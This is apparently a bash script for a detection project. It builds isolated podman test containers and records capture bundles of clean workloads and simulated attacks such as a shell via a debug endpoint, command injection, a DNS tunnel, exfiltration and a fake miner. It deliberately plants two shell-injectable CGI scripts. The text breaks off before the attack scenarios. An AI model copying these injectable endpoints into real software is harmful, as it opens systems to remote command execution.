#!/usr/bin/env bash
# make-detections.sh: record the detection capture bundles of samples/detect/ from
# real podman containers running on this machine (bundle contract:
# /work/shared/DESIGN.md, section 1; what podman needs here: /work/shared/CONTAINERS.md).
#
#   sudo samples/make-detections.sh [--keep] [SCENARIO...]
#
# writes samples/detect/<scenario>.tar.zst for each SCENARIO (all of them by default):
#
# clean-1 .. clean-6  four workloads doing their normal work with small variations:
#                     web (httpd, a CGI that shells out), api (httpd, static JSON),
#                     client (fetches from both, resolves their names), worker (a batch
#                     job checksumming and compressing its files). 1-5 train, 6 is held out.
# shell-in-api        a request to api's leftover /cgi-bin/debug runs sh, id, uname in api
# package-manager     a command injection in web's CGI runs dpkg -l, rpm -qa, and installs
#                     a fetched .deb with dpkg -i
# fork-bomb           a fork bomb in worker (--pids-limit 64), bounded to 6 s
# oom-storm           six memory hogs in a row in worker (--memory 32m), each OOM-killed
# dns-tunnel          client sends 60 queries with 48-character hex labels
# exfiltration        web sends ~10 MB of its own files to a listener on the host side
# miner               worker (--cpus 0.5) fetches a fake miner that resolves its pool,
#                     logs in over Stratum (xmrig dialect) and burns CPU at the limit
#
# Everything runs on the internal bridge salvage-detect (10.89.78.0/24, no route out);
# the host side is 10.89.78.1 (added by hand), where a dnsmasq answers the containers'
# queries and the "attacker" listeners bind, and 10.89.78.2, the mining pool's. Every
# container, listener, capture and loop is bounded in time, and the EXIT trap removes
# everything the script started.
# Separate network, state folder, labels and work folders from make-samples.sh, whose
# container names it shares: it refuses to run while make-samples.sh runs.
set -euo pipefail

# The bundles keep /proc/<pid>/environ of the processes this script starts: run with an
# empty environment so that nothing of the caller's environment ends up in them.
if [[ ${SALVAGE_DETECT_CLEAN_ENV:-} != 1 ]]; then
	exec env -i SALVAGE_DETECT_CLEAN_ENV=1 HOME=/root LC_ALL=C TERM=dumb \
		PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin \
		bash "$0" "$@"
fi

if [[ $EUID -ne 0 ]]; then
	echo "make-detections.sh: must run as root (sudo $0)" >&2
	exit 1
fi

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=$HERE/detect
# shellcheck source-path=SCRIPTDIR source=lib-capture.sh
. "$HERE/lib-capture.sh"
CAP_COLLECTOR="salvage samples/make-detections.sh"

NET=salvage-detect
SUBNET=10.89.78.0/24
HOSTADDR=10.89.78.1 # added by hand to the bridge: dnsmasq and listeners bind here only
# The "mining pool" gets a host-side address of its own (a pool is not the resolver):
# pool.minexmr.test -> POOLADDR. The tunnel's names resolve to TUNNELADDR, which
# nothing listens on (a tunnel's answers carry data, not a server to connect to).
POOLADDR=10.89.78.2
TUNNELADDR=10.89.78.3
WEB_IP=10.89.78.10
API_IP=10.89.78.11
CLIENT_IP=10.89.78.12
WORKER_IP=10.89.78.13
DEBUG_IP=10.89.78.14 # the privileged scenario's debug container
LABEL=salvage.detect=1
SNAP_INTERVAL_US=1000000 # one snapshot per second
MAX_BUNDLE=1500000       # bytes, per bundle
MAX_TOTAL=10000000       # bytes, samples/detect/ as a whole
PODMAN=(podman --runtime runc --cgroup-manager cgroupfs --events-backend file)
RUN_OPTS=(--label "$LABEL" --network "$NET" --dns "$HOSTADDR"
	--ulimit nofile=1024:1024 --ulimit nproc=4096:4096)
# The worker's limits, the same in every scenario (its workload is one thing).
WORKER_LIMITS=(--memory 32m --memory-swap 32m --pids-limit 64 --cpus 0.5)
STATE=/run/salvage-detect # what a killed run left behind, for the next run to undo
MAIN_PID=$$
ALL_SCENARIOS=(clean-1 clean-2 clean-3 clean-4 clean-5 clean-6 shell-in-api
	package-manager fork-bomb oom-storm dns-tunnel exfiltration miner privileged)
EXPECT_INSPECTS=4 # inspect files a bundle must hold (one per container)
KEEP=0 # --keep: leave the work folder (staging trees, listener output) for a look
SCENARIOS=()
HELPERS=()
declare -A PIDS=() # helper name -> pid (= its process group)
declare -A IDS=()  # container name -> id, in the current scenario
SNAP_PID=
SNAP_PIDS=()
SCEN_HELPERS=0 # index in HELPERS of the current scenario's first helper
WORK=

log() { printf '[make-detections %(%H:%M:%S)T] %s\n' -1 "$*" >&2; }
die() {
	log "ERROR: $*"
	exit 1
}

# podman with the global flags; its stderr (CNI config warnings on this machine) goes to
# a log that is shown when a command fails.
pm() {
	local rc=0
	"${PODMAN[@]}" "$@" 2>>"${WORK:-/tmp}/podman.stderr" || rc=$?
	if ((rc)); then
		log "podman $* failed ($rc):"
		grep -v 'CNI config' "${WORK:-/tmp}/podman.stderr" | tail -n 5 >&2 || true
	fi
	return "$rc"
}

# ---------------------------------------------------------------- cleanup -----------

# proc_start PID: the process's start time (field 22 of /proc/PID/stat), to tell a pid
# from a later process that reuses it.
proc_start() {
	local line
	local -a fields
	{ read -r line <"/proc/$1/stat"; } 2>/dev/null || return 1
	read -ra fields <<<"${line##*) }"
	printf '%s\n' "${fields[19]}"
}

# spawn NAME CMD...: run CMD in the background in its own session (pid = pgid), with
# output in $WORK/NAME.{out,err}; remembered so that cleanup can end its group.
spawn() {
	local name=$1 pid
	shift
	setsid "$@" >"$WORK/$name.out" 2>"$WORK/$name.err" </dev/null &
	pid=$!
	PIDS[$name]=$pid
	HELPERS+=("$pid $(proc_start "$pid" || echo 0)")
	printf '%s\n' "${HELPERS[-1]}" >>"$STATE/pgids"
}

# kill_group PGID START [SIG]: signal a helper's process group if PGID is still the
# process this script started (same start time).
kill_group() {
	local pgid=$1 start=$2 sig=${3:-TERM}
	[[ $(proc_start "$pgid" 2>/dev/null) == "$start" ]] || return 0
	kill "-$sig" -- "-$pgid" 2>/dev/null || true
}

# helper NAME: the recorded "pid start" of helper NAME
helper() {
	local h
	for h in "${HELPERS[@]}"; do
		[[ ${h%% *} == "${PIDS[$1]}" ]] && printf '%s\n' "$h" && return 0
	done
	return 1
}

# stop_helpers FROM: end the helpers spawned since index FROM (TERM, then KILL).
stop_helpers() {
	local from=$1 i
	for ((i = from; i < ${#HELPERS[@]}; i++)); do
		# shellcheck disable=SC2086 # "pid start"
		kill_group ${HELPERS[i]} TERM
	done
	sleep 0.3
	for ((i = from; i < ${#HELPERS[@]}; i++)); do
		# shellcheck disable=SC2086
		kill_group ${HELPERS[i]} KILL
	done
}

remove_our_containers() {
	local ids
	ids=$("${PODMAN[@]}" ps -aq --no-trunc --filter "label=$LABEL" 2>/dev/null || true)
	if [[ -n $ids ]]; then
		# shellcheck disable=SC2086
		"${PODMAN[@]}" rm -f -t 0 $ids >/dev/null 2>&1 || true
	fi
}

# clear_containers: remove our containers, and make sure they are gone (on a busy
# machine podman rm can fail on a container that is still stopping).
clear_containers() {
	local i
	for ((i = 0; i < 5; i++)); do
		remove_our_containers
		[[ -z $("${PODMAN[@]}" ps -aq --filter "label=$LABEL" 2>/dev/null) ]] && return 0
		sleep 2
	done
	die "cannot remove the containers of $NAME"
}

remove_our_network() {
	local labels
	labels=$("${PODMAN[@]}" network inspect -f '{{.Labels}}' "$NET" 2>/dev/null) || return 0
	if [[ $labels == *salvage.detect:1* ]]; then
		"${PODMAN[@]}" network rm "$NET" >/dev/null 2>&1 || true
	fi
}

restore_ip_forward() {
	if [[ -r $STATE/ip_forward ]]; then
		cat "$STATE/ip_forward" >/proc/sys/net/ipv4/ip_forward || true
	fi
}

# not_running STATEDIR WHAT: die if the script that wrote STATEDIR/main still runs.
not_running() {
	local pid start
	[[ -r $1/main ]] || return 0
	read -r pid start <"$1/main"
	[[ $(proc_start "$pid") != "$start" ]] || die "$2 is running (pid $pid)"
}

# Undo what a previous, killed run left behind (refusing to touch what is not ours).
cleanup_leftovers() {
	local pgid pid start name label dir
	# make-samples.sh uses the same container names
	not_running /run/salvage-samples "make-samples.sh"
	if [[ -d $STATE ]]; then
		not_running "$STATE" "another make-detections.sh"
		log "cleaning up after a previous run"
		if [[ -r $STATE/pgids ]]; then
			while read -r pgid start; do
				[[ -n $pgid ]] && kill_group "$pgid" "$start" KILL
			done <"$STATE/pgids"
		fi
		if [[ -r $STATE/pids ]]; then
			while read -r pid start; do
				[[ -n $pid && $(proc_start "$pid") == "$start" ]] && kill -KILL "$pid" 2>/dev/null
			done <"$STATE/pids"
		fi
		if [[ -r $STATE/workdir ]]; then
			dir=$(cat "$STATE/workdir")
			[[ $dir == /tmp/salvage-detect.* ]] && rm -rf -- "$dir"
		fi
	fi
	for name in web api client worker; do
		label=$("${PODMAN[@]}" container inspect -f '{{index .Config.Labels "salvage.detect"}}' \
			"$name" 2>/dev/null) || continue
		[[ $label == 1 ]] || die "a container named '$name' exists that this script did not create"
	done
	remove_our_containers
	if "${PODMAN[@]}" network exists "$NET" 2>/dev/null; then
		[[ $("${PODMAN[@]}" network inspect -f '{{.Labels}}' "$NET" 2>/dev/null) == *salvage.detect:1* ]] ||
			die "a network named '$NET' exists that this script did not create"
		remove_our_network
	fi
	restore_ip_forward
	rm -rf -- "$STATE"
}

cleanup() {
	local rc=$?
	set +e
	trap - EXIT INT TERM
	[[ -n $SNAP_PID ]] && kill "$SNAP_PID" 2>/dev/null
	stop_helpers 0
	wait 2>/dev/null
	remove_our_containers
	remove_our_network
	restore_ip_forward
	if ((KEEP)); then
		log "kept $WORK"
	elif [[ -n $WORK && $WORK == /tmp/salvage-detect.* ]]; then
		rm -rf -- "$WORK"
	fi
	rm -rf -- "$STATE"
	((rc == 0)) || log "failed (exit $rc); everything started was removed"
	exit "$rc"
}

# ---------------------------------------------------------------- images ------------

# base_rootfs DIR: busybox-static with its applet links, users, and an (almost empty)
# dpkg database as a Debian-based image would have.
base_rootfs() {
	local r=$1 a
	mkdir -p "$r"/{bin,etc,tmp,root,proc,sys,dev,run,var/log,var/lib/dpkg/info,app}
	chmod 1777 "$r/tmp"
	cp /bin/busybox "$r/bin/busybox"
	for a in $("$r/bin/busybox" --list); do
		[[ $a == busybox ]] || ln -sf busybox "$r/bin/$a"
	done
	cat >"$r/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/sh
daemon:x:1:1:daemon:/usr/sbin:/bin/false
www-data:x:33:33:www-data:/www:/bin/false
nobody:x:65534:65534:nobody:/nonexistent:/bin/false
EOF
	cat >"$r/etc/group" <<'EOF'
root:x:0:
daemon:x:1:
www-data:x:33:
nogroup:x:65534:
EOF
	cat >"$r/var/lib/dpkg/status" <<'EOF'
Package: busybox-static
Status: install ok installed
Priority: optional
Section: shells
Architecture: amd64
Version: 1:1.35.0-4+deb12u1
Description: Standalone rescue shell with tons of builtin utilities

EOF
}

# web: httpd with a few pages and the "is the backend up?" CGI of make-samples.sh,
# whose host parameter reaches a shell unquoted (the injection two scenarios use).
web_rootfs() {
	local r=$1 p
	mkdir -p "$r/www/cgi-bin"
	for p in index about products; do
		printf '<!doctype html>\n<html><head><title>shop: %s</title></head>\n<body><h1>%s</h1><p>A page of the salvage demo shop, served by busybox httpd.</p>\n<p><a href="/index.html">home</a> <a href="/about.html">about</a> <a href="/products.html">products</a></p></body></html>\n' \
			"$p" "$p" >"$r/www/$p.html"
	done
	cat >"$r/www/cgi-bin/check" <<'EOF'
#!/bin/sh
echo "Content-Type: text/plain"
echo ""
q=$(httpd -d "$QUERY_STRING")
host=${q#host=}
sh -c "timeout 2 wget -q --spider http://$host/ && echo up || echo down" 2>&1
EOF
	chmod 755 "$r/www/cgi-bin/check"
}

# api: httpd serving static JSON, and a debug CGI left over from development that runs
# the command it is given (nothing links to it; the clean traffic never calls it).
api_rootfs() {
	local r=$1
	mkdir -p "$r/srv/api/v1" "$r/srv/cgi-bin"
	printf '<!doctype html>\n<html><body><p>api</p></body></html>\n' >"$r/srv/index.html"
	printf '{"status":"ok","version":"1.4.2"}\n' >"$r/srv/api/v1/status.json"
	printf '{"items":[{"id":1,"name":"lamp","price":19.5},{"id":2,"name":"chair","price":45},{"id":3,"name":"desk","price":120}]}\n' \
		>"$r/srv/api/v1/items.json"
	printf '{"users":[{"id":7,"name":"ada"},{"id":8,"name":"grace"}]}\n' >"$r/srv/api/v1/users.json"
	cat >"$r/srv/cgi-bin/debug" <<'EOF'
#!/bin/sh
# debug endpoint from development: runs ?cmd=... (should have been removed)
echo "Content-Type: text/plain"
echo ""
q=$(httpd -d "$QUERY_STRING")
sh -c "${q#cmd=}" 2>&1
EOF
	chmod 755 "$r/srv/cgi-bin/debug"
}

# client: the shop's checker. At round AT it runs TASK in a subshell of itself (the
# attack scenarios' way in; a subshell keeps the program name "client").
client_rootfs() {
	local r=$1
	cat >"$r/app/client" <<EOF
#!/bin/sh
# client ROUNDS PACE OFFSET [AT TASK]: fetch pages from web and JSON from api,
# ask web's CGI whether api is up, resolve the service names; ROUNDS times,
# PACE seconds apart; OFFSET shifts which page and endpoint come first.
rounds=\$1 pace=\$2 off=\$3 at=\${4:--1} task=\${5:-}
web=$WEB_IP api=$API_IP
i=0
while [ "\$i" -lt "\$rounds" ]; do
	[ "\$i" -eq "\$at" ] && { (eval "\$task") & }
	k=\$((i + off))
	case \$((k % 3)) in
	0) page=index.html ;;
	1) page=about.html ;;
	*) page=products.html ;;
	esac
	timeout 3 wget -q -O /dev/null "http://\$web/\$page"
	case \$((k % 4)) in
	0) ep=status ;;
	2) ep=users ;;
	*) ep=items ;;
	esac
	timeout 3 wget -q -O /dev/null "http://\$api/api/v1/\$ep.json"
	[ \$((k % 5)) -eq 0 ] && timeout 5 wget -q -O /dev/null "http://\$web/cgi-bin/check?host=\$api"
	[ \$((k % 3)) -eq 1 ] && nslookup -type=a api.internal.test >/dev/null 2>&1
	[ \$((k % 4)) -eq 2 ] && nslookup -type=a web.internal.test >/dev/null 2>&1
	sleep "\$pace"
	i=\$((i + 1))
done
wait
EOF
	chmod 755 "$r/app/client"
}

# worker: a batch job over its files; a TASK at round AT as for the client.
worker_rootfs() {
	local r=$1 n
	mkdir -p "$r/data"
	for n in 0 1 2; do
		seq -f "record %06g: order shipped, warehouse $n, status ok" 1 12000 >"$r/data/part$n.txt"
	done
	cat >"$r/app/batch" <<'EOF'
#!/bin/sh
# batch ROUNDS PACE [AT TASK]: the nightly job: checksum every part, compress
# one part per round; ROUNDS times, PACE seconds apart.
rounds=$1 pace=$2 at=${3:--1} task=${4:-}
i=0
while [ "$i" -lt "$rounds" ]; do
	[ "$i" -eq "$at" ] && { (eval "$task") & }
	sha256sum /data/*.txt >/tmp/SHA256SUMS
	gzip -c "/data/part$((i % 3)).txt" >/tmp/part.gz
	rm -f /tmp/part.gz
	sleep "$pace"
	i=$((i + 1))
done
wait
EOF
	chmod 755 "$r/app/batch"
}

# build_image ROLE: build localhost/salvage-ROLE:1 from the busybox rootfs plus the
# role's files; imported again only when the rootfs changed.
build_image() {
	local role=$1 r=$WORK/rootfs-$1 image=localhost/salvage-$1:1 sum have
	rm -rf -- "$r"
	base_rootfs "$r"
	"${role}_rootfs" "$r"
	tar --sort=name --mtime=@0 --owner=0 --group=0 --numeric-owner -C "$r" \
		-cf "$WORK/rootfs-$role.tar" .
	sum=$(sha256sum "$WORK/rootfs-$role.tar" | cut -c1-16)
	have=$("${PODMAN[@]}" image inspect -f '{{index .Labels "salvage.rootfs"}}' "$image" 2>/dev/null || true)
	if [[ $have == "$sum" ]]; then
		log "image $image is up to date ($sum)"
		return 0
	fi
	log "importing $image (busybox-static rootfs $sum)"
	pm import --change "LABEL=salvage.rootfs=$sum" --change "LABEL=$LABEL" \
		"$WORK/rootfs-$role.tar" "$image" >/dev/null
}

# ---------------------------------------------------------------- snapshots ---------

# snap_pids SELF: set SNAP_PIDS to the pids to snapshot: every process this script
# started (podman clients, dnsmasq, host-side listeners, tcpdump; not the snapshotter
# SELF), the processes in the cgroups of our containers, and the conmon of each of our
# containers. The machine's other processes (the session machinery) are left out.
snap_pids() {
	local self=$1 d p line rest comm pp i id
	local -A kids=() want=() ours=() isconmon=()
	local -a q=() procs=() args=()
	while read -r id; do [[ -n $id ]] && ours[$id]=1; done <"$IDFILE"
	for d in /proc/[0-9]*; do
		p=${d#/proc/}
		{ read -r line <"$d/stat"; } 2>/dev/null || continue
		comm=${line#*\(}
		comm=${comm%)*}
		rest=${line##*) }
		read -r _ pp _ <<<"$rest"
		kids[$pp]+=" $p"
		[[ $comm == conmon ]] && isconmon[$p]=1
	done
	q=("$MAIN_PID")
	while ((${#q[@]})); do
		p=${q[0]}
		q=("${q[@]:1}")
		[[ $p == "$self" ]] && continue
		want[$p]=1
		# shellcheck disable=SC2206 # a list of pids
		q+=(${kids[$p]:-})
	done
	for id in "${!ours[@]}"; do
		{ mapfile -t procs <"/sys/fs/cgroup/pids/libpod_parent/libpod-$id/cgroup.procs"; } 2>/dev/null ||
			procs=()
		for p in "${procs[@]}"; do want[$p]=1; done
	done
	for p in "${!isconmon[@]}"; do
		{ mapfile -d '' -t args <"/proc/$p/cmdline"; } 2>/dev/null || continue
		for ((i = 0; i + 1 < ${#args[@]}; i++)); do
			if [[ ${args[i]} == -c && -n ${ours[${args[i + 1]}]:-} ]]; then
				want[$p]=1
				break
			fi
		done
	done
	SNAP_PIDS=("${!want[@]}")
}

# prune_partial ROOT T: a process that ended between two copies leaves empty files
# (comm, status): no half process in the bundle.
prune_partial() {
	local d
	for d in "$1/proc/$2"/*/; do
		[[ -s ${d}stat && -s ${d}status && -s ${d}comm ]] || rm -rf -- "$d"
	done
}

# snapshot ROOT SELF: one snapshot at the current wall-clock time.
snapshot() {
	local root=$1 self=$2 t T id
	local -a rels=()
	t=$EPOCHREALTIME
	T=${t%???}
	snap_pids "$self"
	cap_snapshot "$root" "$T" "${SNAP_PIDS[@]}"
	prune_partial "$root" "$T"
	while read -r id; do
		[[ -n $id ]] && rels+=("libpod_parent/libpod-$id")
	done <"$IDFILE"
	cap_cgroups "$root" "$T" "${rels[@]}"
	t=$EPOCHREALTIME
	echo "$T $(((${t/./} - ${T/./}000) / 1000)) ms" >>"$WORK/snapshots"
}

# snap_loop ROOT MAX_SECONDS: a snapshot every SNAP_INTERVAL_US until $WORK/snap.stop.
snap_loop() {
	local root=$1 max=$2 self=$BASHPID now next end wait_us
	now=${EPOCHREALTIME/./}
	next=$now
	end=$((now + max * 1000000))
	while [[ ! -e $WORK/snap.stop ]] && ((now < end)); do
		snapshot "$root" "$self" || log "snapshot failed"
		next=$((next + SNAP_INTERVAL_US))
		now=${EPOCHREALTIME/./}
		wait_us=$((next - now))
		if ((wait_us > 0)); then
			sleep "$(printf '%d.%06d' $((wait_us / 1000000)) $((wait_us % 1000000)))"
		else
			next=$now
		fi
		now=${EPOCHREALTIME/./}
	done
}

# ---------------------------------------------------------------- capture -----------

# begin_capture NAME MAX_SECONDS [SNAPLEN [PACKETS]]: start tcpdump and the snapshot
# loop for bundle NAME.
begin_capture() {
	local i snaplen=${3:-512} packets=${4:-20000}
	NAME=$1
	BUNDLE=$STAGE/$NAME
	IDFILE=$WORK/$NAME.ids
	SCEN_HELPERS=${#HELPERS[@]}
	IDS=()
	rm -rf -- "$BUNDLE" "$WORK/snap.stop" "$WORK/snapshots"
	mkdir -p "$BUNDLE/pcap"
	: >"$IDFILE"
	log "[$NAME] capture starts"
	spawn "tcpdump-$NAME" timeout --foreground --signal INT "$(($2 + 60))" \
		tcpdump -i any -s "$snaplen" -U -Z root -c "$packets" \
		-w "$BUNDLE/pcap/$NAME.pcap" net "$SUBNET"
	for ((i = 0; i < 50; i++)); do
		grep -q 'listening on' "$WORK/tcpdump-$NAME.err" 2>/dev/null && break
		sleep 0.1
	done
	grep -q 'listening on' "$WORK/tcpdump-$NAME.err" || die "tcpdump did not start"
	STARTED=$(cap_now_rfc3339)
	UP0=$(cap_uptime)
	T0=${EPOCHREALTIME/./}
	snap_loop "$BUNDLE" $(($2 + 30)) &
	SNAP_PID=$!
	# the machine may be busy: snapshots first, so that they keep their pace
	renice -n -10 -p "$SNAP_PID" >/dev/null || true
	echo "$SNAP_PID $(proc_start "$SNAP_PID" || echo 0)" >>"$STATE/pids"
}

# at SECONDS: sleep until SECONDS after the capture started (fractions allowed).
at() {
	local target now us
	target=$(awk -v s="$1" 'BEGIN { printf "%d", s * 1000000 }')
	now=${EPOCHREALTIME/./}
	us=$((T0 + target - now))
	if ((us > 0)); then
		# in the background, so that a signal reaches the traps at once
		sleep "$(printf '%d.%06d' $((us / 1000000)) $((us % 1000000)))" &
		wait "$!"
	fi
	return 0
}

# run_container NAME ARGS...: podman run -d; records the id for snapshots and inspect.
run_container() {
	local name=$1 id
	shift
	id=$(pm run -d --name "$name" "${RUN_OPTS[@]}" "$@") || die "cannot start $name"
	echo "$id" >>"$IDFILE"
	IDS[$name]=$id
	log "[$NAME] started $name ${id:0:12}"
}

# run_bg NAME ARGS...: podman run -d in the background (a busy machine takes seconds
# per container); run_wait collects the ids of every run_bg.
BG=()
run_bg() {
	local name=$1
	shift
	rm -f -- "$WORK/$name.id"
	pm run -d --name "$name" "${RUN_OPTS[@]}" "$@" >"$WORK/$name.id" &
	BG+=("$! $name")
}

run_wait() {
	local b id
	for b in "${BG[@]}"; do
		wait "${b% *}" || die "cannot start ${b#* }"
		id=$(cat "$WORK/${b#* }.id")
		[[ $id =~ ^[0-9a-f]{64}$ ]] || die "no id for ${b#* }"
		echo "$id" >>"$IDFILE"
		IDS[${b#* }]=$id
		log "[$NAME] started ${b#* } ${id:0:12}"
	done
	BG=()
}

# wait_until SECONDS CMD...: poll CMD every 0.5 s until it succeeds (0) or SECONDS
# have passed (1).
wait_until() {
	local end=$((${EPOCHREALTIME/./} + $1 * 1000000))
	shift
	until "$@"; do
		((${EPOCHREALTIME/./} < end)) || return 1
		sleep 0.5
	done
}

# host_address: give the bridge its host addresses (netavark leaves an internal
# bridge without one, and removes the bridge with its last container), so that
# dnsmasq and the listeners can bind to them alone.
host_address() {
	local br a
	br=$(pm network inspect -f '{{.NetworkInterface}}' "$NET")
	ip link show dev "$br" >/dev/null 2>&1 || die "bridge $br missing"
	for a in "$HOSTADDR" "$POOLADDR"; do
		ip -4 addr show dev "$br" | grep -q "inet $a/" ||
			ip addr add "$a/24" dev "$br"
	done
}

# wait_listen PORT PROTO [ADDR]: wait (at most 5 s) for a listener on ADDR:PORT
# (ADDR: HOSTADDR by default).
wait_listen() {
	local i flag=-Hltn addr=${3:-$HOSTADDR}
	[[ $2 == udp ]] && flag=-Hlun
	for ((i = 0; i < 50; i++)); do
		[[ -n $(ss "$flag" "( src $addr and sport = :$1 )") ]] && return 0
		sleep 0.1
	done
	die "nothing listens on $addr:$1/$2"
}

# start_dns: dnsmasq on HOSTADDR:53 only, the containers' resolver: the service names,
# the scenarios' "outside" names, nothing upstream; its log goes to the work folder.
start_dns() {
	spawn "dnsmasq-$NAME" timeout --foreground 120 dnsmasq --keep-in-foreground \
		--conf-file=/dev/null --no-resolv --no-hosts --no-poll --bind-interfaces \
		--listen-address="$HOSTADDR" --port=53 --pid-file --log-queries \
		--log-facility=- \
		--address="/web.internal.test/$WEB_IP" --address="/api.internal.test/$API_IP" \
		--address="/client.internal.test/$CLIENT_IP" \
		--address="/worker.internal.test/$WORKER_IP" \
		--address="/pool.minexmr.test/$POOLADDR" --address="/exfil.test/$TUNNELADDR"
	wait_listen 53 udp
}

# start_roles [WORKER_ARGS...]: web, api and worker (its batch runs for the whole
# capture and beyond), the host address, dnsmasq.
start_roles() {
	run_bg web --ip "$WEB_IP" --timeout 90 localhost/salvage-web:1 \
		httpd -f -p 80 -h /www
	run_bg api --ip "$API_IP" --timeout 90 localhost/salvage-api:1 \
		httpd -f -p 80 -h /srv
	run_bg worker --ip "$WORKER_IP" --timeout 90 "${WORKER_LIMITS[@]}" \
		localhost/salvage-worker:1 /app/batch "$@"
	run_wait
	host_address
	start_dns
}

# start_client ROUNDS PACE OFFSET [AT TASK]: the client, the last workload to start.
# On a busy machine the containers take seconds to start: the scenario's clock (T0)
# is moved so that the client starts at 1.2 s, and what follows keeps its pace.
start_client() {
	local late
	run_container client --ip "$CLIENT_IP" --timeout 90 localhost/salvage-client:1 \
		/app/client "$@"
	late=$((${EPOCHREALTIME/./} - T0 - 1200000))
	if ((late > 0)); then
		T0=$((T0 + late))
		log "[$NAME] the workloads started $((late / 1000)) ms late"
	fi
}

# stop_capture: stop the snapshots, tcpdump and the scenario's helpers; ENDED is the
# end of the live capture.
stop_capture() {
	touch "$WORK/snap.stop"
	wait "$SNAP_PID" || true
	SNAP_PID=
	ENDED=$(cap_now_rfc3339)
	UP1=$(cap_uptime)
	# shellcheck disable=SC2046 # "pid start"
	kill_group $(helper "tcpdump-$NAME") INT
	wait "${PIDS[tcpdump-$NAME]}" 2>/dev/null || true
	stop_helpers "$SCEN_HELPERS"
	log "[$NAME] capture ended; $(wc -l <"$WORK/snapshots") snapshots; $(tail -n 1 "$WORK/tcpdump-$NAME.err")"
}

# pack_capture NOTES: inspect, events, dmesg, manifest and sums; pack, verify, and only
# then remove the scenario's containers.
pack_capture() {
	local notes=$1 id out
	while read -r id; do
		cap_inspect "$BUNDLE" "$id"
	done <"$IDFILE"
	cap_podman_events "$BUNDLE" "$STARTED" "$ENDED" "$IDFILE"
	cap_dmesg "$BUNDLE" "$UP0" "$UP1"
	cap_manifest "$BUNDLE" "$STARTED" "$ENDED" "$notes"
	cap_tidy "$BUNDLE"
	cap_sums "$BUNDLE"
	out=$WORK/$NAME.tar.zst
	ZSTD_CLEVEL=19 tar --zstd --sort=name --owner=0 --group=0 --numeric-owner \
		-C "$STAGE" -cf "$out" "$NAME"
	verify_bundle "$out"
	mkdir -p "$OUT"
	mv -f -- "$out" "$OUT/$NAME.tar.zst"
	log "[$NAME] wrote samples/detect/$NAME.tar.zst ($(stat -c %s "$OUT/$NAME.tar.zst") bytes)"
	clear_containers
}

# verify_bundle FILE: the checks every bundle must pass.
verify_bundle() {
	local f=$1 x=$WORK/verify size
	rm -rf -- "$x"
	mkdir -p "$x"
	tar --zstd -tf "$f" >"$x.list" || die "tar cannot list $f"
	grep -qx "$NAME/manifest.json" "$x.list" || die "no manifest in $f"
	tar --zstd -C "$x" -xf "$f"
	(cd "$x/$NAME" && sha256sum --quiet -c SHA256SUMS) || die "SHA256SUMS check failed"
	python3 -m json.tool "$x/$NAME/manifest.json" >/dev/null || die "manifest.json does not parse"
	grep -qF "$NAME" "$x/$NAME/manifest.json" || die "the notes do not name $NAME"
	size=$(stat -c %s "$f")
	((size < MAX_BUNDLE)) || die "$f is $size bytes (limit $MAX_BUNDLE)"
	tcpdump -r "$x/$NAME/pcap/$NAME.pcap" -c 1 >/dev/null 2>&1 || die "pcap does not open"
	[[ -s $x/$NAME/events/podman.jsonl ]] || die "no podman events"
	[[ $(find "$x/$NAME/inspect" -name '*.json' | wc -l) -eq $EXPECT_INSPECTS ]] ||
		die "not $EXPECT_INSPECTS inspect files"
	! grep -q '"Status":"exec"' "$x/$NAME/events/podman.jsonl" ||
		die "an exec event: no scenario uses podman exec"
	rm -rf -- "$x" "$x.list"
}

# ---------------------------------------------------------------- checks ------------

# in_cgroup NAME: the snapshot folders proc/<T>/<pid>/ of processes in container NAME,
# one per line.
in_cgroup() {
	grep -lsF "libpod-${IDS[$1]}" "$BUNDLE"/proc/*/*/cgroup /dev/null | sed 's,/cgroup$,,'
}

# snaps_with NAME COMM: how many snapshots show a process COMM in container NAME.
snaps_with() {
	in_cgroup "$1" | while read -r d; do
		grep -qsxF "$2" "$d/comm" && printf '%s\n' "${d%/*}"
	done | sort -u | wc -l
}

# most_procs NAME: the most processes of container NAME in one snapshot.
most_procs() {
	in_cgroup "$1" | sed 's,/[^/]*$,,' | sort | uniq -c | sort -rn |
		awk 'NR == 1 { print $1 } END { if (NR == 0) print 0 }'
}

# check_quiet: nothing in a clean capture that an attack would leave: no OOM kill,
# no sh in api, only the service names resolved (and resolved a few times).
check_quiet() {
	local bad
	cap_dmesg "$BUNDLE" "$UP0" "$UP1"
	! grep -q 'Killed process' "$BUNDLE/events/dmesg.txt" ||
		die "an OOM kill in a clean capture"
	bad=$(grep -v -e 'internal\.test' "$WORK/dnsmasq-$NAME.err" | grep -F 'query[' || true)
	[[ -z $bad ]] || die "unexpected queries: $bad"
	[[ $(snaps_with api sh) -eq 0 ]] || die "sh ran in api"
	[[ $(grep -c 'query\[A\] api\.internal\.test' "$WORK/dnsmasq-$NAME.err") -ge 3 ]] ||
		die "the client resolved too few names"
}

# ---------------------------------------------------------------- scenarios ---------

urlencode() {
	local s=$1 out='' c i
	for ((i = 0; i < ${#s}; i++)); do
		c=${s:i:1}
		case $c in
		[a-zA-Z0-9./_~-]) out+=$c ;;
		*) printf -v c '%%%02X' "'$c" && out+=$c ;;
		esac
	done
	printf '%s\n' "$out"
}

# attack NAME URL: the "attacker" on the host side requests URL (bounded), in the
# background so that the script's clock goes on.
attack() {
	spawn "$1" timeout 20 busybox wget -q -O - "$2"
}

# The variations of the clean runs: client pace, client offset, worker pace, length.
declare -A CLEAN_VARIANT=(
	[clean-1]="0.5 0 1.0 16" [clean-2]="0.6 1 1.2 17" [clean-3]="0.45 2 0.9 15"
	[clean-4]="0.7 3 1.1 18" [clean-5]="0.55 4 1.3 16" [clean-6]="0.65 5 1.0 17")

scenario_clean() {
	local pace off wpace end
	read -r pace off wpace end <<<"${CLEAN_VARIANT[$1]}"
	begin_capture "$1" $((end + 10))
	at 0.3
	start_roles 200 "$wpace"
	at 1.2
	start_client 200 "$pace" "$off"
	at "$end"
	stop_capture
	check_quiet
	pack_capture "$1: clean run of four workloads on salvage-detect: web (busybox httpd with a CGI health check that shells out), api (httpd serving static JSON), client (fetches pages from web and JSON from api every $pace s, asks web's CGI whether api is up, resolves api.internal.test and web.internal.test through dnsmasq on $HOSTADDR), worker (batch job checksumming and gzipping its files every $wpace s, limits 32 MB, 64 pids, 0.5 CPU); nothing else happens."
}

# shell-in-api: api's leftover debug CGI, called twice from the host side, runs sh
